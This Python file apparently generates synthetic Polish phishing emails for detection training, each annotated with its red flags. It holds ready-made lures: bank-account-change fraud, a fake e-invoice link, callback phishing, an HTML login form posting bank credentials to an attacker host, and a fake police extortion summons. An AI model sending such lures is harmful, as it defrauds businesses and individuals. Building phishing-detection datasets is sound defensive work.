# -*- coding: utf-8 -*-
"""attack/ 22-26 (Polish)."""
from .common import *


# ---------------------------------------------------------------------------------------------- 22
@msg('attack', '22-pl-partner-logistik-zmiana-rachunku')
def _(m):
    m.when = ('2026-11-09 09:36:14', 'PL')
    m.frm = ('Tadeusz Zieliński', 't.zielinski@partner-logistlk.pl')
    m.to = [P('piotr.kaminski')]
    m.subject = 'Zmiana rachunku bankowego – Partner Logistik sp. z o.o.'
    m.system = Google(mode='workspace', domain='partner-logistlk.pl')
    iban = U.iban_pl(U.pl_sortcode('1050101'), '2294000000613857')
    m.fact('iban', iban, 'ING Bank Śląski (not on the VAT white list)')
    sig = ('Tadeusz Zieliński\nKierownik ds. Rozliczeń\nPartner Logistik sp. z o.o.\nul. Głogowska 218, 60-104 Poznań\n'
           'tel. +48 61 842 19 40')
    text = ('Dzień dobry Panie Piotrze,\n\n'
            'uprzejmie informujemy, że w związku z przeniesieniem obsługi bankowej naszej spółki do ING Banku Śląskiego, '
            'od dnia 16.11.2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować wyłącznie na '
            'nowy rachunek:\n\n'
            'ING Bank Śląski S.A.\n'
            'Nr rachunku: %s\n\n'
            'Rachunek został zgłoszony do wykazu podatników VAT (tzw. białej listy). Aktualizacja wykazu przez KAS może '
            'potrwać do 14 dni roboczych, dlatego w tym okresie nowy numer może jeszcze nie być widoczny w wyszukiwarce. '
            'Prosimy mimo to o realizację płatności w mechanizmie podzielonej płatności (MPP) – przy zapłacie w MPP '
            'nie grozi Państwu solidarna odpowiedzialność.\n\n'
            'Dotychczasowy rachunek w mBanku zostanie zamknięty z końcem listopada. W załączeniu przesyłamy oświadczenie '
            'podpisane przez Zarząd.\n\n'
            'Jednocześnie uprzejmie przypominamy o nieopłaconej fakturze FV/2026/11/0412 z dnia 03.11.2026 na kwotę '
            '11 826,45 zł brutto (termin płatności 17.11.2026).\n\n'
            'Z poważaniem\n') % U.nrb(iban)
    pdf = letter_pdf(m, 'PARTNER LOGISTIK', ['Partner Logistik sp. z o.o. · ul. Głogowska 218 · 60-104 Poznań',
                                             'NIP %s · KRS 0000571904' % U.pl_nip('779284163')],
                     ['Example Group Diagnostyka sp. z o.o.', 'ul. Legnicka 55', '54-203 Wrocław'],
                     'Poznań, 06.11.2026 r.', 'Oświadczenie o zmianie rachunku bankowego',
                     ['Zarząd Partner Logistik sp. z o.o. oświadcza, że z dniem 16.11.2026 r. rachunkiem właściwym do '
                      'regulowania wszelkich należności spółki jest rachunek:',
                      '**ING Bank Śląski S.A.  %s' % U.nrb(iban),
                      'Dotychczasowy rachunek prowadzony przez mBank S.A. zostanie zamknięty z dniem 30.11.2026 r. '
                      'Prosimy o aktualizację danych w Państwa systemie księgowym.'],
                     sign=['', 'Za Zarząd:', 'Marek Wiśniewski – Prezes Zarządu'],
                     footer=['Partner Logistik sp. z o.o., Sąd Rejonowy Poznań – Nowe Miasto i Wilda w Poznaniu, VIII '
                             'Wydział Gospodarczy KRS, kapitał zakładowy 250 000 zł'],
                     producer='Microsoft® Word dla Microsoft 365', creator='Microsoft® Word dla Microsoft 365',
                     author='Tadeusz Zieliński', color=(0.75, 0.33, 0.05))
    html = gmail_html(text, sig_text=sig)
    body = alt(m.rng, text + '\n-- \n' + sig + '\n', html, 'gmail', charset='UTF-8', cte='quoted-printable')
    m.root = mixed(m.rng, 'gmail', [body, attachment(pdf, 'application/pdf', 'Oświadczenie_zmiana_rachunku.pdf')])
    m.what = 'Supplier bank-account change from a look-alike of Partner Logistik (logistlk with l), statement PDF attached.'
    m.why = ('partner-logistlk.pl on a Google Workspace trial instead of the partner\'s home.pl mail; new account not on '
             'the VAT white list and the mail pre-empts that check; overdue-invoice pressure; the real Partner Logistik '
             'later warns about exactly this fraud (business/26).')


# ---------------------------------------------------------------------------------------------- 23
@msg('attack', '23-pl-ksef-faktura-do-akceptacji')
def _(m):
    m.when = ('2026-11-18 14:03:57', 'PL')
    m.frm = ('KSeF – Krajowy System e-Faktur', 'powiadomienia@ksef-mf-gov.pl')
    m.to = [P('piotr.kaminski')]
    m.subject = 'KSeF: otrzymano nową fakturę FA/2026/11/03877 – wymagana weryfikacja odbiorcy'
    m.system = SendGrid(domain='ksef-mf-gov.pl', em='em2290.ksef-mf-gov.pl')
    nip_issuer = U.pl_nip('779284163')
    ksef_no = '%s-20261118-6A1F2B3C4D5E-7F' % nip_issuer
    link = 'https://ksef-mf-gov.pl/web/odbiorca/faktura?nr=%s&sesja=Q2xpZW50LTg5NDMxODI3NjM' % ksef_no
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b">'
            '<table width="600" cellpadding="0" cellspacing="0"><tr><td style="background:#d4213d;height:6px"></td></tr>'
            '<tr><td style="padding:18px 0"><b style="font-size:18px">Krajowy System e-Faktur</b><br>'
            '<span style="color:#555">Ministerstwo Finansów</span></td></tr><tr><td>'
            '<p>Szanowni Państwo,</p>'
            '<p>w Krajowym Systemie e-Faktur zarejestrowano fakturę ustrukturyzowaną wystawioną na Państwa firmę '
            '(NIP odbiorcy: %s).</p>'
            '<table style="font-size:14px" cellpadding="3"><tr><td>Numer KSeF:</td><td><b>%s</b></td></tr>'
            '<tr><td>Numer faktury:</td><td>FA/2026/11/03877</td></tr>'
            '<tr><td>Sprzedawca:</td><td>Partner Logistik sp. z o.o. (NIP %s)</td></tr>'
            '<tr><td>Kwota brutto:</td><td>18 204,57 PLN</td></tr></table>'
            '<p>W związku z nowymi zasadami obiegu dokumentów odbiorca zobowiązany jest do weryfikacji uprawnień '
            'w ciągu 48 godzin. Po tym czasie faktura zostanie oznaczona jako nieodebrana.</p>'
            '<p><a href="%s" style="background:#0052a5;color:#fff;padding:10px 20px;text-decoration:none">Pobierz '
            'wizualizację faktury</a></p>'
            '<p style="font-size:12px;color:#666">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.</p>'
            '</td></tr></table></body></html>\n') % (ENT['PL']['ids'][0][1], ksef_no, nip_issuer, link)
    m.root = alt(m.rng, html2text(html), html, 'sendgrid', charset='utf-8', cte='quoted-printable')
    m.fact('id', ksef_no, 'fake KSeF number (format of the real system)')
    m.what = 'Fake KSeF (national e-invoicing) notification: "verify recipient within 48 h" link to a credential/malware page.'
    m.why = ('KSeF does not e-mail invoices or demand recipient "verification"; ksef-mf-gov.pl imitates the gov.pl '
             'domain and is sent through SendGrid; real supplier name and plausible amount; 48-hour threat.')


# ---------------------------------------------------------------------------------------------- 24
@msg('attack', '24-pl-google-forms-callback-microsoft')
def _(m):
    m.when = ('2026-10-13 17:25:09', 'PL')
    m.frm = ('Formularze Google', 'forms-receipts-noreply@google.com')
    m.to = [P('katarzyna.wojcik')]
    title = 'Faktura nr MS-2026-77105 | Microsoft 365 Business Premium – odnowienie'
    m.subject = 'Dziękujemy za wypełnienie formularza „%s”' % title
    env = '3%s@forms-receipts-noreply.bounces.google.com' % ralnum(m.rng, 22, B62)
    m.system = google_service('google.com', env)
    m.msgid = '<%s@google.com>' % rhex(m.rng, 22).upper()
    form = 'https://docs.google.com/forms/d/e/1FAIpQLSe7Jk2mQv9xR4tB8nL1pZ6wC3yD0aH5sF2gK7uE9iO4rT1yUw/viewform?usp=mail_form_link'
    html = ('<html><body style="font-family:Roboto,Arial,sans-serif;background:#f0ebf8">'
            '<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#fff;border-top:10px solid #673ab7">'
            '<tr><td style="padding:24px">'
            '<p style="font-size:14px;color:#202124">Dziękujemy za wypełnienie formularza <b>%s</b></p>'
            '<p style="font-size:14px;color:#202124">Oto otrzymane odpowiedzi:</p>'
            '<div style="border:1px solid #dadce0;border-radius:8px;padding:16px">'
            '<div style="font-size:20px">%s</div>'
            '<p style="font-size:14px">Szanowny Kliencie,<br>Twoja subskrypcja Microsoft 365 Business Premium (15 licencji) '
            'została automatycznie odnowiona na kolejne 12 miesięcy. Kwota <b>4 899,00 zł</b> zostanie pobrana z '
            'zapisanej metody płatności w ciągu 24 godzin.<br><br>Numer zamówienia: MS-2026-77105<br>Data: 13.10.2026'
            '<br><br>Jeżeli nie autoryzowałeś tej płatności lub chcesz anulować odnowienie i otrzymać zwrot, zadzwoń '
            'niezwłocznie do działu rozliczeń: <b>+48 22 307 41 86</b> (pn.–pt. 8:00–20:00).</p>'
            '<p style="font-size:12px;color:#70757a">Adres e-mail *<br>katarzyna.wojcik@example.com</p></div>'
            '<p style="margin-top:18px"><a href="%s" style="color:#673ab7">Utwórz własny formularz Google</a></p>'
            '<p style="font-size:11px;color:#70757a">Ten formularz został utworzony poza Twoją domeną. '
            '<a href="https://docs.google.com/forms/u/0/d/e/1FAIpQLSe7Jk2mQv9xR4tB8nL1pZ6wC3yD0aH5sF2gK7uE9iO4rT1yUw/reportabuse" '
            'style="color:#70757a">Zgłoś nadużycie</a> – <a href="https://policies.google.com/terms" style="color:#70757a">'
            'Warunki korzystania z usługi</a></p></td></tr></table></body></html>\n') % (esc(title), esc(title), form)
    m.root = alt(m.rng, html2text(html), html, 'gmail', charset='UTF-8', cte='quoted-printable')
    m.fact('phone', '+48 22 307 41 86', 'fake Microsoft billing line (callback)')
    m.what = 'Callback phishing abusing Google Forms response receipts: fake Microsoft 365 renewal with a phone number.'
    m.why = ('Genuine Google infrastructure (DKIM google.com) so reputation filters pass; the criminal entered the victim\'s '
             'address into his own form so Google mailed the "receipt"; Microsoft never bills through Google Forms; '
             'the phone line leads to a remote-access scam.')


# ---------------------------------------------------------------------------------------------- 25
@msg('attack', '25-pl-ipko-biznes-zalacznik-html')
def _(m):
    m.when = ('2026-11-24 08:11:36', 'PL')
    m.frm = ('PKO Bank Polski – iPKO biznes', 'powiadomienia@pkobp-biznes-powiadomienia.pl')
    m.to = [P('piotr.kaminski')]
    m.subject = 'iPKO biznes: zlecenie przelewu nr 2026/11/24/0187 oczekuje na autoryzację'
    m.system = WebHostPHP(exim=True, host='srv61.webhosting-polska.pl', ip='198.51.100.61', uid=1187, zone='PL',
                          user='pkobpbiz', env='powiadomienia@pkobp-biznes-powiadomienia.pl', dkim_sel='default',
                          script='/home/pkobpbiz/public_html/mailer/send.php', docroot='/home/pkobpbiz/public_html/mailer',
                          msgid_dom='pkobp-biznes-powiadomienia.pl')
    action = 'https://ipkobiznes-autoryzacja.com/api/v2/login.php'
    att = ('<!DOCTYPE html>\n<html lang="pl"><head><meta charset="utf-8"><title>iPKO biznes – logowanie</title>\n'
           '<style>body{font-family:Arial,sans-serif;background:#f2f2f2}.box{width:380px;margin:60px auto;background:#fff;'
           'padding:28px;border-top:6px solid #004c9a}input{width:100%%;padding:8px;margin:6px 0 14px 0}'
           'button{background:#004c9a;color:#fff;border:0;padding:10px 26px}</style></head>\n<body><div class="box">'
           '<h2 style="color:#004c9a">iPKO biznes</h2><p>Zlecenie nr 2026/11/24/0187 na kwotę <b>48 730,00 PLN</b> '
           'oczekuje na autoryzację. Zaloguj się, aby wyświetlić szczegóły lub odrzucić zlecenie.</p>\n'
           '<form method="post" action="%s">\n<input type="hidden" name="u" value="piotr.kaminski@example.com">\n'
           '<label>Identyfikator firmy</label><input name="firma" type="text">\n<label>Login</label><input name="login" '
           'type="text">\n<label>Hasło</label><input name="haslo" type="password">\n<button type="submit">Zaloguj</button>'
           '</form><p style="font-size:11px;color:#777">PKO Bank Polski S.A. · Infolinia 800 302 302</p></div></body></html>\n') % action
    text = ('Szanowni Państwo,\n\n'
            'w systemie iPKO biznes zarejestrowano zlecenie przelewu nr 2026/11/24/0187 na kwotę 48 730,00 PLN, które '
            'oczekuje na autoryzację drugiego użytkownika.\n\n'
            'Szczegóły zlecenia znajdują się w załączonym potwierdzeniu (plik HTML – otwórz w przeglądarce). Jeżeli nie '
            'rozpoznają Państwo zlecenia, prosimy je odrzucić po zalogowaniu.\n\n'
            'Z poważaniem\nPKO Bank Polski S.A.\n')
    m.root = mixed(m.rng, 'phpmailer', [text_part(text, 'plain', 'utf-8', '8bit'),
                                        attachment(att.encode('utf-8'), 'text/html', 'Potwierdzenie_zlecenia_2026-11-24-0187.html',
                                                   style='plain')])
    m.what = 'Bank credential phishing with an HTML attachment: local "iPKO biznes" login form posting to an attacker host.'
    m.why = ('Sender domain pkobp-biznes-powiadomienia.pl is not pkobp.pl; sent by a PHP script on shared hosting; the HTML '
             'attachment renders a login page offline (no URL in the body for scanners) and posts credentials to '
             'ipkobiznes-autoryzacja.com; a large "pending transfer" creates urgency.')


# ---------------------------------------------------------------------------------------------- 26
@msg('attack', '26-pl-falszywe-wezwanie-cbzc')
def _(m):
    m.when = ('2026-10-30 21:47:02', 'PL')
    m.frm = ('Centralne Biuro Zwalczania Cyberprzestępczości', 'cbzc.wezwanie2026@wp.pl')
    m.to = [P('katarzyna.wojcik')]
    m.subject = 'WEZWANIE – sygn. akt CBZC-II-4178/26 (pilne)'
    m.system = WPPoczta(client_ip='198.51.100.188', client_rdns='unknown')
    mailto = 'prokuratura.cbzc.sprawy@gmail.com'
    m.fact('email', mailto, 'reply address demanded in the PDF')
    pdf = letter_pdf(m, 'CBZC', ['Centralne Biuro Zwalczania Cyberprzestępczości · ul. Puławska 148/150 · 02-624 Warszawa',
                                 'Wydział II do Walki z Przestępczością przeciwko Małoletnim'],
                     ['Pani', 'Katarzyna Wójcik', 'katarzyna.wojcik@example.com'], 'Warszawa, 30.10.2026 r.',
                     'WEZWANIE – sygn. akt CBZC-II-4178/26',
                     ['Na podstawie art. 177 § 1 Kodeksu postępowania karnego wzywa się Panią do złożenia pisemnych '
                      'wyjaśnień w sprawie prowadzonej przeciwko Pani w związku z wyświetlaniem i rozpowszechnianiem w '
                      'sieci Internet treści o charakterze pornograficznym z udziałem małoletnich (art. 202 § 3 i § 4 k.k.).',
                      'Materiał dowodowy został zabezpieczony przez Europol (operacja „Cyber-Guard 2026”) i przekazany do '
                      'Prokuratury Krajowej.',
                      'Wyjaśnienia należy przesłać w terminie 72 godzin od otrzymania niniejszego wezwania na adres '
                      'e-mail: %s. Brak odpowiedzi w wyznaczonym terminie skutkować będzie wydaniem nakazu zatrzymania, '
                      'wpisem do Krajowego Rejestru Karnego oraz powiadomieniem pracodawcy i mediów.' % mailto,
                      'W przypadku dobrowolnego poddania się karze możliwe jest umorzenie postępowania po uiszczeniu '
                      'grzywny administracyjnej, o której wysokości zostanie Pani poinformowana w odpowiedzi.'],
                     sign=['', 'insp. Adam Cieślak', 'Komendant Centralnego Biura Zwalczania Cyberprzestępczości'],
                     producer='iLovePDF', creator='Microsoft® Word 2019', author='CBZC', color=(0.1, 0.1, 0.35))
    text = ('Dzień dobry,\n\nw załączeniu przekazujemy wezwanie w sprawie CBZC-II-4178/26. Prosimy o zapoznanie się z '
            'treścią dokumentu i udzielenie odpowiedzi w terminie 72 godzin.\n\nSekretariat CBZC\n')
    m.root = mixed(m.rng, 'thunderbird', [text_part(text, 'plain', 'utf-8', '8bit', flowed=True),
                                          attachment(pdf, 'application/pdf', 'Wezwanie_CBZC-II-4178-26.pdf')])
    m.what = 'Fake police summons (CBZC/Europol) accusing the recipient of child-abuse material and demanding a reply and a "fine".'
    m.why = ('Police authorities do not send summonses from wp.pl free-mail addresses nor ask for replies to Gmail; '
             'shame-and-fear pretext, 72-hour deadline, later demand for a "fine" (advance-fee extortion).')
